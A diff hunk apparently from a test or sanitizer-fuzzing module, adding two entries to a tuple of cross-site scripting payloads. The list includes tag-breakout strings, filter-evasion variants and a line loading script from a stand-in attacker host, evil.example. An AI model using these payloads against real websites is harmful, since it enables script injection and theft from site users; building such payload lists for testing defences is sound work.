@@ -26,6 +26,8 @@ PAYLOADS: tuple[str, ...] = (
     f"</textarea><script>{_CALL}</script>",
     f"--><script>{_CALL}</script>",
     f"]]><script>{_CALL}</script>",
+    "</script x",
+    "<!--<script ",
     f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
     f"<<script>{_CALL}//<</script>",
     f"<script src=https://evil.example/x.js></script>{_CALL}",
